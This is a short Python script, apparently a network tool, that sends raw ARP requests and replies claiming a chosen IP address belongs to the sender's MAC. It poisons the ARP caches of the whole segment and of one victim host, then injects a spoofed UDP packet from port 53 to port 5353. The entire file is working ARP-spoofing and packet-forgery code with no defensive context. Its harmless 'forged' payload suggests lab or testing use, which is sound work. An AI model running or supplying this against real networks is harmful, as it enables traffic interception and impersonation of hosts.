"""forge.py INTERFACE ADDRESS VICTIM: tells the whole network of an interface, and VICTIM by itself, that ADDRESS is here: by ARP
requests and answers; and sends VICTIM a UDP packet from ADDRESS, port 53 to 5353, in a frame of its own making."""

import socket
import struct
import sys

interface, address, victim = sys.argv[1:]


def neighbour():
    with open("/proc/net/arp") as file:
        for line in file.readlines()[1:]:
            fields = line.split()
            if fields[0] == victim and fields[3] != "00:00:00:00:00:00":
                return bytes.fromhex(fields[3].replace(":", ""))
    raise SystemExit(f"{victim} is not known here")


sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind((interface, 0))
mac, there = sock.getsockname()[4], neighbour()
for to in (b"\xff" * 6, there):
    for operation in (1, 2):
        for target in (address, victim):
            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac + socket.inet_aton(address)
            sock.send(to + mac + b"\x08\x06" + arp + there + socket.inet_aton(target))
udp = struct.pack("!HHHH", 53, 5353, 8 + 6, 0) + b"forged"
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(address), socket.inet_aton(victim))
words = sum(struct.unpack("!10H", head))
while words >> 16:
    words = (words & 0xFFFF) + (words >> 16)
head = head[:10] + struct.pack("!H", ~words & 0xFFFF) + head[12:]
sock.send(there + mac + b"\x08\x00" + head + udp)
